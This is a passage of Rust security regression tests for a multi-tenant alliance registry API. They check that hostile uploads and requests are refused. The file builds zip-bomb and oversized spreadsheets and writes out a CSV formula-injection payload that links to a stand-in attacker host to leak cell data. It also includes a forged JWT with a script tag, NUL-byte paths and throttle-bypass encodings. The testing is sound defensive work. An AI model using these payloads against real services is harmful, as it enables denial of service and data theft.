//! What an outside probe of the release build found, each as a test on
//! both engines: hostile spreadsheets, bodies sent to tokens that may not
//! send them, shared token subjects, paths that slip past the throttle,
//! cursors from the future, formulas in CSV exports.

use std::io::{Read, Write};
use std::time::{Duration, Instant};

use crate::common::TestApp;
use alliance_api::auth::Role;
use alliance_api::db::schema::organizations;
use diesel::prelude::*;
use serde_json::json;

const XLSX: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
const IMPORT: &str = "/api/v1/alliances/teda-biomedicine/imports/members?dry_run=true";

fn teda_secretariat(app: &TestApp) -> String {
    app.token_for(Role::Secretariat, &["teda-biomedicine"], None)
}

/// A workbook rust_xlsxwriter writes, with `cells` set.
fn workbook(cells: &[(u32, u16, &str)]) -> Vec<u8> {
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet();
    for (row, col, text) in cells {
        sheet.write_string(*row, *col, *text).unwrap();
    }
    book.save_to_buffer().unwrap()
}

/// `book` with the part `name` replaced by `content` (deflated), the way a
/// hostile file is made from an honest one.
fn with_part(book: &[u8], name: &str, content: &mut dyn Read) -> Vec<u8> {
    let mut source = zip::ZipArchive::new(std::io::Cursor::new(book)).unwrap();
    let mut out = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated)
        .compression_level(Some(1));
    let mut replaced = false;
    for i in 0..source.len() {
        let mut part = source.by_index(i).unwrap();
        out.start_file(part.name().to_owned(), options).unwrap();
        if part.name() == name {
            std::io::copy(content, &mut out).unwrap();
            replaced = true;
        } else {
            std::io::copy(&mut part, &mut out).unwrap();
        }
    }
    if !replaced {
        out.start_file(name.to_owned(), options).unwrap();
        std::io::copy(content, &mut out).unwrap();
    }
    out.finish().unwrap().into_inner()
}

/// `n` bytes of `filler` after `head` and before `tail`, made as they are read.
fn repeated(head: &str, filler: &'static [u8], n: usize, tail: &str) -> impl Read {
    std::io::Cursor::new(head.as_bytes().to_vec())
        .chain(Filler {
            filler,
            left: n,
            at: 0,
        })
        .chain(std::io::Cursor::new(tail.as_bytes().to_vec()))
}

struct Filler {
    filler: &'static [u8],
    left: usize,
    at: usize,
}

impl Read for Filler {
    fn read(&mut self, buf: &mut [u8]) -> std::io::Result<usize> {
        let n = buf.len().min(self.left);
        for b in &mut buf[..n] {
            *b = self.filler[self.at % self.filler.len()];
            self.at += 1;
        }
        self.left -= n;
        Ok(n)
    }
}

async fn upload(
    app: &TestApp,
    token: &str,
    content_type: &str,
    body: Vec<u8>,
) -> crate::common::Response {
    app.send(
        app.client
            .post(app.url(IMPORT))
            .bearer_auth(token)
            .content_type(content_type),
        Some(body),
    )
    .await
}

/// Every hostile file of the probe answers 4xx within 2 s, and the service
/// answers after each.
async fn hostile_spreadsheets_are_refused_quickly(mut app: TestApp) {
    app.seed_registry().await;
    let token = teda_secretariat(&app);
    let before = organizations_count(&app);
    let sheet = "xl/worksheets/sheet1.xml";
    let cells_far_apart = workbook(&[(0, 0, "slug"), (1_048_575, 16_383, "x")]);
    let column_z_far_down = workbook(&[(0, 0, "slug"), (999_999, 25, "x")]);
    let sheet_head = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><dimension ref="A1:XFD1048576"/><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>slug</t></is></c></row>"#;
    // 100 MiB of empty rows: a few hundred KB deflated.
    let zip_bomb = with_part(
        &workbook(&[(0, 0, "slug")]),
        sheet,
        &mut repeated(sheet_head, b"<row/>", 100 << 20, "</sheetData></worksheet>"),
    );
    // 5 million shared strings.
    let strings = with_part(
        &workbook(&[(0, 0, "slug")]),
        "xl/sharedStrings.xml",
        &mut repeated(
            r#"<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">"#,
            b"<si><t>x</t></si>",
            17 * 5_000_000,
            "</sst>",
        ),
    );
    let mut wide_csv = String::from("slug");
    for i in 0..1_000_000 {
        wide_csv.push_str(&format!(",c{i}"));
    }
    wide_csv.push('\n');
    let shapes: Vec<(&str, &str, Vec<u8>, &[u16])> = vec![
        ("A1 and XFD1048576", XLSX, cells_far_apart, &[413]),
        ("A1 and Z1000000", XLSX, column_z_far_down, &[413, 422]),
        ("a zip bomb", XLSX, zip_bomb, &[413]),
        ("5 M shared strings", XLSX, strings, &[413]),
        (
            "a CSV header of 1 M columns",
            "text/csv",
            wide_csv.into_bytes(),
            &[413],
        ),
        ("not a zip", XLSX, b"PK\x03\x04 broken".to_vec(), &[400]),
    ];
    for (what, content_type, body, statuses) in shapes {
        assert!(body.len() < 16 << 20, "{what}: {} bytes", body.len());
        let started = Instant::now();
        let res = upload(&app, &token, content_type, body).await;
        let took = started.elapsed();
        assert!(
            statuses.contains(&res.status.as_u16()),
            "{what}: {} {}",
            res.status,
            res.text()
        );
        let problem = res.problem(res.status.as_u16());
        assert!(problem["detail"].as_str().is_some(), "{what}: {problem}");
        assert!(
            res.body.len() < 64 * 1024,
            "{what}: {} bytes",
            res.body.len()
        );
        assert!(took < Duration::from_secs(2), "{what} took {took:?}");
        assert_eq!(app.get("/healthz", "").await.status, 200, "after {what}");
    }
    assert_eq!(organizations_count(&app), before);
}

fn organizations_count(app: &TestApp) -> i64 {
    organizations::table
        .count()
        .get_result(&mut *app.conn())
        .unwrap()
}

/// An import with more rejected cells than a report lists says how many
/// more there were, and stays small.
async fn conflict_lists_are_cut_and_counted(mut app: TestApp) {
    app.seed_registry().await;
    let mut csv = String::from("slug,kind,name_zh,joined_on\n");
    for i in 0..5_000 {
        csv.push_str(&format!("bad-{i},not-a-kind,名{i},not-a-date\n"));
    }
    let res = upload(&app, &teda_secretariat(&app), "text/csv", csv.into_bytes()).await;
    assert_eq!(res.status, 200, "{}", res.text());
    let report = res.json();
    let listed = report["conflicts"].as_array().unwrap().len();
    assert_eq!(listed, 1_000, "{}", report["conflicts_not_listed"]);
    assert_eq!(report["conflicts_not_listed"], 10_000 - 1_000);
}

/// Role and scope are decided from the token and the path before the body
/// is read: the refusal comes while the body is still unsent.
async fn refusals_come_before_the_body(mut app: TestApp) {
    app.seed_registry().await;
    let viewer = app.viewer();
    let other = app.token_for(Role::Secretariat, &["dongjiang-digital-economy"], None);
    let path = "/api/v1/alliances/teda-biomedicine/imports/members";
    for (who, token, status) in [
        ("a viewer", viewer.as_str(), "403"),
        ("another alliance's secretariat", other.as_str(), "403"),
        ("no token", "x", "401"),
    ] {
        let probe = ProbeTarget {
            base: app.base.clone(),
        };
        let token = token.to_owned();
        let line = actix_web::web::block(move || probe.status(path, &token, "text/csv"))
            .await
            .unwrap();
        assert!(line.contains(status), "{who}: {line}");
    }
    let line = {
        let probe = ProbeTarget {
            base: app.base.clone(),
        };
        let token = app.viewer();
        actix_web::web::block(move || {
            probe.status(
                "/api/v1/alliances/teda-biomedicine/activities",
                &token,
                "application/json",
            )
        })
        .await
        .unwrap()
    };
    assert!(line.contains("403"), "a viewer's JSON body: {line}");
}

/// Sends a request's headers and only the first bytes of a large body, and
/// reads the status line the service answers with (without waiting for the
/// rest of the body).
struct ProbeTarget {
    base: String,
}

impl ProbeTarget {
    fn status(&self, path: &str, token: &str, content_type: &str) -> String {
        let addr = self.base.trim_start_matches("http://");
        let mut stream = std::net::TcpStream::connect(addr).unwrap();
        stream
            .set_read_timeout(Some(Duration::from_secs(5)))
            .unwrap();
        write!(
            stream,
            "POST {path} HTTP/1.1\r\nHost: {addr}\r\nAuthorization: Bearer {token}\r\n\
             Content-Type: {content_type}\r\nContent-Length: 15000000\r\n\r\nslug,kind\r\n"
        )
        .unwrap();
        let mut answer = [0u8; 512];
        let n = stream.read(&mut answer).expect("an answer before the body");
        String::from_utf8_lossy(&answer[..n])
            .lines()
            .next()
            .unwrap_or_default()
            .to_owned()
    }
}

/// A viewer's invalid body is refused for the role (403), not validated (422).
async fn validation_comes_after_authorisation(mut app: TestApp) {
    app.seed_registry().await;
    let res = app
        .post(
            "/api/v1/alliances/teda-biomedicine/activities",
            &app.viewer(),
            &json!({"kind": "no-such-kind"}),
        )
        .await;
    res.problem(403);
    let res = app
        .post(
            "/api/v1/alliances/teda-biomedicine/activities",
            &app.token_for(Role::Secretariat, &["dongjiang-digital-economy"], None),
            &json!({"kind": "no-such-kind"}),
        )
        .await;
    res.problem(403);
    // A record named by its own id, of another alliance: as unknown (404),
    // before its invalid body is looked at.
    let platform = app
        .get("/api/v1/alliances/teda-biomedicine/platforms", &app.admin())
        .await
        .json()["items"][0]["id"]
        .as_str()
        .unwrap()
        .to_owned();
    let dongjiang = app.token_for(Role::Secretariat, &["dongjiang-digital-economy"], None);
    let res = app
        .patch(
            &format!("/api/v1/platforms/{platform}"),
            &dongjiang,
            &json!({"status": "no-such-status", "unknown": 1}),
        )
        .await;
    res.problem(404);
    let res = app
        .patch(
            &format!("/api/v1/platforms/{platform}"),
            &teda_secretariat(&app),
            &json!({"status": "no-such-status"}),
        )
        .await;
    res.problem(422);
}

/// Two secretariat tokens share a subject (as every CLI token of a role
/// once did): the second cannot list, read, change, redeliver or delete
/// the first's subscription.
async fn subscriptions_belong_to_their_scope_not_their_subject(mut app: TestApp) {
    app.seed_registry().await;
    let teda = teda_secretariat(&app);
    let dongjiang = app.token_for(Role::Secretariat, &["dongjiang-digital-economy"], None);
    let created = app
        .post(
            "/api/v1/webhooks",
            &teda,
            &json!({"url": "https://hooks.example.com/teda", "alliance": "teda-biomedicine"}),
        )
        .await;
    assert_eq!(created.status, 201, "{}", created.text());
    let id = created.json()["id"].as_str().unwrap().to_owned();
    let listed = app.get("/api/v1/webhooks", &dongjiang).await;
    assert_eq!(listed.status, 200);
    assert_eq!(listed.json()["items"], json!([]));
    let item = format!("/api/v1/webhooks/{id}");
    app.get(&item, &dongjiang).await.problem(404);
    app.patch(
        &item,
        &dongjiang,
        &json!({"url": "https://evil.example.com/x"}),
    )
    .await
    .problem(404);
    app.post(
        &format!("{item}/deliveries"),
        &dongjiang,
        &json!({"event": "1"}),
    )
    .await
    .problem(404);
    app.get(&format!("{item}/deliveries"), &dongjiang)
        .await
        .problem(404);
    app.delete(&item, &dongjiang).await.problem(404);
    // The maker still has it, unchanged.
    let mine = app.get(&item, &teda).await;
    assert_eq!(mine.status, 200);
    assert_eq!(mine.json()["url"], "https://hooks.example.com/teda");
    assert_eq!(
        app.get("/api/v1/webhooks", &teda).await.json()["items"]
            .as_array()
            .unwrap()
            .len(),
        1
    );
}

/// Another tenant's retry with the same key and body is its own request:
/// it is authorised as one, and gets no replay of the first answer.
async fn idempotent_replays_stay_with_their_caller(mut app: TestApp) {
    app.seed_registry().await;
    let key = "probe-key-1";
    let body = json!({"url": "https://hooks.example.com/a"});
    let send = |token: String| {
        let body = body.clone();
        let app = &app;
        async move {
            app.send(
                app.client
                    .post(app.url("/api/v1/webhooks"))
                    .bearer_auth(token)
                    .insert_header(("Idempotency-Key", key))
                    .content_type("application/json"),
                Some(serde_json::to_vec(&body).unwrap()),
            )
            .await
        }
    };
    let first = send(teda_secretariat(&app)).await;
    assert_eq!(first.status, 201, "{}", first.text());
    let other = send(app.token_for(Role::Secretariat, &["dongjiang-digital-economy"], None)).await;
    assert_eq!(other.status, 201, "{}", other.text());
    assert_eq!(other.header("idempotent-replayed"), None);
    assert_ne!(other.json()["id"], first.json()["id"]);
    assert_ne!(other.json()["secret"], first.json()["secret"]);
}

/// A path that routing decodes is throttled as the path it is routed to,
/// and a token spelt differently spends the same quota.
async fn the_throttle_counts_what_routing_and_authentication_use(app: TestApp) {
    let engine = app.engine;
    drop(app);
    let Some(app) = TestApp::spawn_with(engine, |c| c.rate_limit_per_token = 1_000).await else {
        return;
    };
    let token = app.viewer();
    let mut remaining = vec![];
    for (path, scheme) in [
        ("/api/v1/alliances", "Bearer"),
        ("/%61pi/v1/alliances", "Bearer"),
        ("/api/v1/%61lliances", "bearer"),
        ("/api/v1/alliances", "BEARER "),
    ] {
        let res = app
            .send(
                app.client
                    .get(app.url(path))
                    .insert_header(("Authorization", format!("{scheme} {token}"))),
                None,
            )
            .await;
        assert_eq!(res.status, 200, "{path}: {}", res.text());
        let left: u32 = res
            .header("ratelimit-remaining")
            .unwrap_or_else(|| panic!("{path} {scheme}: no RateLimit headers"))
            .parse()
            .unwrap();
        remaining.push(left);
    }
    // One bucket (the token's is the tighter): each request spent from it.
    assert!(remaining.windows(2).all(|w| w[1] < w[0]), "{remaining:?}");
    let docs = app.send(app.client.get(app.url("/%64ocs/")), None).await;
    assert!(
        docs.header("content-security-policy").is_some(),
        "/%64ocs/ answered {} without a CSP",
        docs.status
    );
}

/// A feed cursor past the newest event is refused, not taken.
async fn feed_cursors_from_the_future_are_refused(mut app: TestApp) {
    app.seed_registry().await;
    let viewer = app.viewer();
    let head = app.get("/api/v1/changes?limit=1000", &viewer).await;
    assert_eq!(head.status, 200);
    let mut cursor: i64 = head.json()["next_cursor"]
        .as_str()
        .unwrap()
        .parse()
        .unwrap();
    loop {
        let page = app
            .get(
                &format!("/api/v1/changes?limit=1000&after={cursor}"),
                &viewer,
            )
            .await
            .json();
        let next: i64 = page["next_cursor"].as_str().unwrap().parse().unwrap();
        if next == cursor {
            break;
        }
        cursor = next;
    }
    let res = app
        .get(&format!("/api/v1/changes?after={}", cursor + 1000), &viewer)
        .await;
    res.problem(400);
    assert_eq!(
        res.field_errors(),
        vec![("after".to_owned(), "beyond_head".to_owned())]
    );
    let res = app
        .get(&format!("/api/v1/changes?after={cursor}"), &viewer)
        .await;
    assert_eq!(res.status, 200);
}

/// A name that a spreadsheet would run as a formula comes out of every CSV
/// inert, and as plain text in a workbook.
async fn csv_exports_write_no_live_formulas(mut app: TestApp) {
    app.seed_registry().await;
    let evil = r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#;
    let org = app.create_org("formula-co", evil).await;
    let admitted = app
        .post(
            "/api/v1/alliances/teda-biomedicine/memberships",
            &app.admin(),
            &json!({"organization_id": org["id"], "role": "member", "joined_on": "2025-01-01"}),
        )
        .await;
    assert_eq!(admitted.status, 201, "{}", admitted.text());
    for path in [
        "/api/v1/organizations?format=csv&q=formula",
        "/api/v1/alliances/teda-biomedicine/exports/members?format=csv",
    ] {
        let res = app.get(path, &app.admin()).await;
        assert_eq!(res.status, 200, "{path}: {}", res.text());
        let text = res.text();
        assert!(text.contains("'=HYPERLINK("), "{path}: {text}");
        assert!(
            !text.contains(",=HYPERLINK(") && !text.contains("\"=HYPERLINK("),
            "{path}: {text}"
        );
    }
    let res = app
        .get(
            "/api/v1/alliances/teda-biomedicine/exports/members?format=xlsx",
            &app.admin(),
        )
        .await;
    let sheet = alliance_api::tabular::read(
        alliance_api::tabular::Format::Xlsx,
        &res.body,
        &alliance_api::tabular::IMPORT_BOUNDS,
    )
    .unwrap();
    assert!(
        sheet.rows.iter().any(|r| r.cells.iter().any(|c| c == evil)),
        "the workbook keeps the name as text"
    );
}

/// NUL in a query, a path, a JSON string or client credentials is a 400
/// (401 for credentials) on both engines, never a 500.
async fn nul_characters_are_refused_at_the_edge(mut app: TestApp) {
    app.seed_registry().await;
    let viewer = app.viewer();
    for path in [
        "/api/v1/organizations?q=%00",
        "/api/v1/changes?after=%00",
        "/api/v1/organizations?cursor=00%00",
        "/api/v1/alliances/teda%00",
        "/api/v1/platforms/x%00y",
    ] {
        let res = app.get(path, &viewer).await;
        res.problem(400);
        assert_eq!(
            res.field_errors(),
            vec![("path".to_owned(), "nul_character".to_owned())],
            "{path}"
        );
    }
    let res = app
        .post(
            "/api/v1/organizations",
            &app.admin(),
            &json!({"slug": "nul-co", "kind": "enterprise", "name_zh": "某\u{0}公司"}),
        )
        .await;
    res.problem(400);
    let res = app
        .send(
            app.client
                .post(app.url("/api/v1/auth/token"))
                .content_type("application/x-www-form-urlencoded"),
            Some(b"grant_type=client_credentials&client_id=a%00b&client_secret=x".to_vec()),
        )
        .await;
    assert_eq!(res.status, 401, "{}", res.text());
}

/// An organisation renamed past what a cell holds still exports, for
/// everyone, as CSV and as a workbook.
async fn long_values_never_fail_an_export(mut app: TestApp) {
    app.seed_registry().await;
    let long = "长".repeat(195);
    let org = app.create_org("long-co", "长名字公司").await;
    let mut etag = format!("\"{}\"", org["version"]);
    for i in 0..170 {
        let res = app
            .send(
                app.client
                    .patch(app.url("/api/v1/organizations/long-co"))
                    .bearer_auth(app.admin())
                    .insert_header(("If-Match", etag.clone()))
                    .content_type("application/json"),
                Some(serde_json::to_vec(&json!({"name_zh": format!("{i}{long}")})).unwrap()),
            )
            .await;
        assert_eq!(res.status, 200, "{}", res.text());
        etag = res.header("etag").unwrap().to_owned();
    }
    for format in ["xlsx", "csv"] {
        let res = app
            .get(
                &format!("/api/v1/organizations?format={format}"),
                &app.viewer(),
            )
            .await;
        assert_eq!(res.status, 200, "{format}: {}", res.text());
    }
    let kept = app
        .get("/api/v1/organizations/long-co", &app.admin())
        .await
        .json();
    assert_eq!(kept["former_names"].as_array().unwrap().len(), 20);
    assert!(
        kept["former_names"][19]["name_zh"]
            .as_str()
            .unwrap()
            .starts_with("168")
    );
}

/// Answers that carry a secret are not to be cached, and a replay of the
/// request that made one does not show it again (it is kept nowhere).
async fn secrets_are_shown_once_and_never_cached(mut app: TestApp) {
    app.seed_registry().await;
    let send = |path: &'static str, body: serde_json::Value| {
        let app = &app;
        async move {
            app.send(
                app.client
                    .post(app.url(path))
                    .bearer_auth(app.admin())
                    .insert_header(("Idempotency-Key", format!("once-{path}")))
                    .content_type("application/json"),
                Some(serde_json::to_vec(&body).unwrap()),
            )
            .await
        }
    };
    let account = json!({"name": "hr-system", "kind": "system", "role": "viewer"});
    let hook = json!({"url": "https://hooks.example.com/once"});
    for (path, body, secret_field) in [
        ("/api/v1/accounts", account, "client_secret"),
        ("/api/v1/webhooks", hook, "secret"),
    ] {
        let first = send(path, body.clone()).await;
        assert_eq!(first.status, 201, "{path}: {}", first.text());
        assert_eq!(first.header("cache-control"), Some("no-store"), "{path}");
        let secret = first.json()[secret_field].as_str().unwrap().to_owned();
        let again = send(path, body).await;
        let problem = again.problem(409);
        assert_eq!(again.header("idempotent-replayed"), Some("true"));
        assert!(!again.text().contains(&secret), "{path}");
        assert!(
            problem["detail"].as_str().unwrap().contains("not kept"),
            "{problem}"
        );
        let stored: Vec<String> = alliance_api::db::schema::idempotency_keys::table
            .select(alliance_api::db::schema::idempotency_keys::body)
            .load(&mut *app.conn())
            .unwrap();
        assert!(
            stored.iter().all(|b| !b.contains(&secret)),
            "{path}: stored"
        );
    }
    let account = app
        .get("/api/v1/accounts?limit=1", &app.admin())
        .await
        .json();
    let id = account["items"][0]["id"].as_str().unwrap().to_owned();
    let rotated = app
        .post(
            &format!("/api/v1/accounts/{id}/secret"),
            &app.admin(),
            &json!({}),
        )
        .await;
    assert_eq!(rotated.status, 200, "{}", rotated.text());
    assert_eq!(rotated.header("cache-control"), Some("no-store"));
}

/// A refused token is told why in the service's own words, without the
/// library's text or the values the token itself carried.
async fn token_refusals_do_not_echo_the_token(app: TestApp) {
    use base64::Engine as _;
    let b64 = |v: serde_json::Value| {
        base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(v.to_string())
    };
    let forged = format!(
        "{}.{}.c2ln",
        b64(json!({"alg": "HS256", "kid": "<script>attacker-kid</script>"})),
        b64(json!({"sub": "x"}))
    );
    for token in [forged.as_str(), "not-a-jwt"] {
        let res = app.get("/api/v1/alliances", token).await;
        let problem = res.problem(401);
        let detail = problem["detail"].as_str().unwrap();
        assert!(!detail.contains("attacker-kid"), "{detail}");
        assert!(!detail.contains("Error("), "{detail}");
        assert!(
            detail.starts_with("the bearer token is not valid"),
            "{detail}"
        );
    }
}

/// A secretariat that admits another alliance's member cannot then change
/// the shared record; nor can a member give itself a certification.
async fn shared_organisations_are_not_taken_over(mut app: TestApp) {
    app.seed_registry().await;
    let dongjiang = app.token_for(Role::Secretariat, &["dongjiang-digital-economy"], None);
    let org = app
        .get("/api/v1/organizations/cansino-biologics", &app.admin())
        .await
        .json();
    let admitted = app
        .post(
            "/api/v1/alliances/dongjiang-digital-economy/memberships",
            &dongjiang,
            &json!({"organization_id": org["id"], "role": "member", "joined_on": "2025-01-01"}),
        )
        .await;
    assert_eq!(admitted.status, 201, "{}", admitted.text());
    let res = app
        .patch(
            "/api/v1/organizations/cansino-biologics",
            &dongjiang,
            &json!({"name_zh": "被接管的公司", "website": "https://evil.example.com",
                    "certification": {"level": "national", "certified_on": "2025-01-01"}}),
        )
        .await;
    let problem = res.problem(403);
    assert!(
        problem["detail"]
            .as_str()
            .unwrap()
            .contains("teda-biomedicine"),
        "{problem}"
    );
    let after = app
        .get("/api/v1/organizations/cansino-biologics", &app.admin())
        .await
        .json();
    assert_eq!(after["name_zh"], org["name_zh"]);
    assert_eq!(after["version"], org["version"]);
    // The secretariat of the only alliance it belongs to may.
    let res = app
        .patch(
            "/api/v1/organizations/cansino-biologics",
            &app.token_for(
                Role::Secretariat,
                &["teda-biomedicine", "dongjiang-digital-economy"],
                None,
            ),
            &json!({"website": "https://www.cansinotech.com"}),
        )
        .await;
    assert_eq!(res.status, 200, "{}", res.text());

    let member = app.token_for(Role::Member, &[], Some("new-member-co"));
    let res = app
        .post(
            "/api/v1/organizations",
            &member,
            &json!({"slug": "new-member-co", "kind": "enterprise", "name_zh": "新成员公司",
                    "certification": {"level": "national", "certified_on": "2025-01-01"}}),
        )
        .await;
    res.problem(403);
    app.get("/api/v1/organizations/new-member-co", &app.admin())
        .await
        .problem(404);
    let res = app
        .post(
            "/api/v1/organizations",
            &member,
            &json!({"slug": "new-member-co", "kind": "enterprise", "name_zh": "新成员公司"}),
        )
        .await;
    assert_eq!(res.status, 201, "{}", res.text());
}

/// A member token reads the alliances its organisation belongs to, whatever
/// alliances the token lists.
async fn a_members_scope_follows_its_memberships(mut app: TestApp) {
    app.seed_registry().await;
    let untyped = app.token_for(Role::Member, &[], Some("nankai-university"));
    let mistyped = app.token_for(
        Role::Member,
        &["tjftz-offshore-equipment"],
        Some("nankai-university"),
    );
    for token in [&untyped, &mistyped] {
        let res = app
            .get("/api/v1/alliances/teda-biomedicine/memberships", token)
            .await;
        assert_eq!(res.status, 200, "{}", res.text());
        app.get(
            "/api/v1/alliances/tjftz-offshore-equipment/memberships",
            token,
        )
        .await
        .problem(403);
    }
    let teda = app
        .get("/api/v1/alliances/teda-biomedicine", &app.admin())
        .await
        .json();
    let changes = app.get("/api/v1/changes?limit=1000", &untyped).await.json();
    let alliances: std::collections::BTreeSet<&str> = changes["items"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|e| e["alliance_id"].as_str())
        .collect();
    assert!(
        alliances.contains(teda["id"].as_str().unwrap()),
        "{alliances:?}"
    );
    let tjftz = app
        .get("/api/v1/alliances/tjftz-offshore-equipment", &app.admin())
        .await
        .json();
    assert!(
        !alliances.contains(tjftz["id"].as_str().unwrap()),
        "{alliances:?}"
    );
}

/// Commits are acknowledged only once durable: SQLite with `synchronous =
/// FULL` (unless the operator chooses otherwise), PostgreSQL with
/// `synchronous_commit` on.
async fn acknowledged_commits_are_durable(app: TestApp) {
    use diesel::sql_types::Text;
    #[derive(QueryableByName)]
    struct Setting {
        #[diesel(sql_type = Text)]
        value: String,
    }
    let mut conn = app.db.conn().unwrap();
    let value = match app.engine {
        crate::common::Engine::Sqlite => {
            diesel::sql_query("SELECT CAST(synchronous AS TEXT) AS value FROM pragma_synchronous")
                .get_result::<Setting>(&mut *conn)
                .unwrap()
                .value
        }
        crate::common::Engine::Postgres => {
            diesel::sql_query(
                "SELECT setting AS value FROM pg_settings WHERE name = 'synchronous_commit'",
            )
            .get_result::<Setting>(&mut *conn)
            .unwrap()
            .value
        }
    };
    let durable = match app.engine {
        crate::common::Engine::Sqlite => "2", // FULL
        crate::common::Engine::Postgres => "on",
    };
    assert_eq!(value, durable);
}

/// Guessing one account's secret is cut off after 20 wrong tries a minute
/// (429 before any hash), and other accounts are not affected.
async fn wrong_secrets_are_limited_per_client_id(app: TestApp) {
    let made = app
        .post(
            "/api/v1/accounts",
            &app.admin(),
            &json!({"name": "guessed", "kind": "system", "role": "viewer"}),
        )
        .await;
    assert_eq!(made.status, 201, "{}", made.text());
    let secret = made.json()["client_secret"].as_str().unwrap().to_owned();
    let ask = |id: &'static str, secret: String| {
        let app = &app;
        async move {
            app.send(
                app.client
                    .post(app.url("/api/v1/auth/token"))
                    .content_type("application/x-www-form-urlencoded"),
                Some(
                    format!("grant_type=client_credentials&client_id={id}&client_secret={secret}")
                        .into_bytes(),
                ),
            )
            .await
        }
    };
    for _ in 0..20 {
        assert_eq!(ask("guessed", "wrong".into()).await.status, 401);
    }
    let res = ask("guessed", "wrong".into()).await;
    assert_eq!(res.oauth_error(429), "temporarily_unavailable");
    assert!(res.header("retry-after").is_some());
    // Even the right secret waits out the minute; another id does not.
    assert_eq!(
        ask("guessed", secret).await.oauth_error(429),
        "temporarily_unavailable"
    );
    assert_eq!(ask("someone-else", "wrong".into()).await.status, 401);
}

/// Waits until the webhook worker has passed event `seq` for the
/// subscription `id` (its cursor moves in the same transaction that queues
/// the deliveries), for at most 20 s.
async fn worker_passes(app: &TestApp, id: &str, seq: i64) {
    use alliance_api::db::schema::webhook_subscriptions as subs;
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        let cursor: i64 = subs::table
            .filter(subs::id.eq(id))
            .select(subs::event_cursor)
            .first(&mut *app.conn())
            .unwrap();
        if cursor >= seq {
            return;
        }
        assert!(
            Instant::now() < deadline,
            "the worker did not pass event {seq}"
        );
        // Woken by the next commit, or looked at again shortly.
        let _ = actix_web::rt::time::timeout(Duration::from_millis(20), app.db.committed()).await;
    }
}

fn deliveries_of(app: &TestApp, id: &str) -> Vec<i64> {
    use alliance_api::db::schema::webhook_deliveries as d;
    d::table
        .filter(d::subscription_id.eq(id))
        .select(d::event_seq)
        .order(d::event_seq)
        .load(&mut *app.conn())
        .unwrap()
}

/// A subscription made by an account stops receiving events the moment the
/// account is disabled.
async fn a_disabled_accounts_subscriptions_stop(mut app: TestApp) {
    app.seed_registry().await;
    let made = app
        .post(
            "/api/v1/accounts",
            &app.admin(),
            &json!({"name": "teda-hr", "kind": "system", "role": "secretariat",
                    "alliances": ["teda-biomedicine"]}),
        )
        .await;
    assert_eq!(made.status, 201, "{}", made.text());
    let account = made.json();
    let issued = app
        .send(
            app.client
                .post(app.url("/api/v1/auth/token"))
                .content_type("application/x-www-form-urlencoded"),
            Some(
                format!(
                    "grant_type=client_credentials&client_id=teda-hr&client_secret={}",
                    account["client_secret"].as_str().unwrap()
                )
                .into_bytes(),
            ),
        )
        .await;
    assert_eq!(issued.status, 200, "{}", issued.text());
    let token = issued.json()["access_token"].as_str().unwrap().to_owned();
    let sub = app
        .post(
            "/api/v1/webhooks",
            &token,
            &json!({"url": "https://hooks.example.com/teda-hr"}),
        )
        .await;
    assert_eq!(sub.status, 201, "{}", sub.text());
    let sub = sub.json()["id"].as_str().unwrap().to_owned();
    let change = |name: &'static str| {
        let app = &app;
        async move {
            let res = app
                .patch(
                    "/api/v1/alliances/teda-biomedicine",
                    &app.admin(),
                    &json!({"name_en": name}),
                )
                .await;
            assert_eq!(res.status, 200, "{}", res.text());
            app.feed_head()
        }
    };
    let first = change("TEDA Biomedicine Alliance").await;
    worker_passes(&app, &sub, first).await;
    assert_eq!(deliveries_of(&app, &sub), vec![first]);
    let disabled = app
        .patch(
            &format!("/api/v1/accounts/{}", account["id"].as_str().unwrap()),
            &app.admin(),
            &json!({"status": "disabled"}),
        )
        .await;
    assert_eq!(disabled.status, 200, "{}", disabled.text());
    let second = change("TEDA Biomedicine Consortium").await;
    worker_passes(&app, &sub, second).await;
    assert_eq!(
        deliveries_of(&app, &sub),
        vec![first],
        "nothing after the account was disabled"
    );
}

on_both_engines!(
    hostile_spreadsheets_are_refused_quickly,
    conflict_lists_are_cut_and_counted,
    refusals_come_before_the_body,
    validation_comes_after_authorisation,
    subscriptions_belong_to_their_scope_not_their_subject,
    idempotent_replays_stay_with_their_caller,
    the_throttle_counts_what_routing_and_authentication_use,
    feed_cursors_from_the_future_are_refused,
    csv_exports_write_no_live_formulas,
    nul_characters_are_refused_at_the_edge,
    long_values_never_fail_an_export,
    secrets_are_shown_once_and_never_cached,
    token_refusals_do_not_echo_the_token,
    shared_organisations_are_not_taken_over,
    a_members_scope_follows_its_memberships,
    acknowledged_commits_are_durable,
    wrong_secrets_are_limited_per_client_id,
    a_disabled_accounts_subscriptions_stop,
);

/// A write whose COMMIT is not answered — here PostgreSQL ends the
/// connection while committing (a deferred trigger terminates its own
/// backend) — is told as "outcome unknown", not as a plain 503; a retry with
/// the same Idempotency-Key then does the write once. PostgreSQL only: an
/// embedded SQLite has no connection to lose.
#[actix_web::test]
async fn postgres_a_lost_commit_is_an_unknown_outcome() {
    let Some(app) = TestApp::spawn(crate::common::Engine::Postgres).await else {
        return;
    };
    use diesel::connection::SimpleConnection;
    app.conn()
        .batch_execute(
            "CREATE FUNCTION lose_the_commit() RETURNS trigger LANGUAGE plpgsql AS $$
             BEGIN PERFORM pg_terminate_backend(pg_backend_pid()); RETURN NULL; END $$;
             CREATE CONSTRAINT TRIGGER lose_the_commit AFTER INSERT ON organizations
             DEFERRABLE INITIALLY DEFERRED FOR EACH ROW EXECUTE FUNCTION lose_the_commit();",
        )
        .unwrap();
    let create = || {
        app.send(
            app.client
                .post(app.url("/api/v1/organizations"))
                .bearer_auth(app.admin())
                .insert_header(("Idempotency-Key", "lost-commit-1"))
                .content_type("application/json"),
            Some(
                serde_json::to_vec(
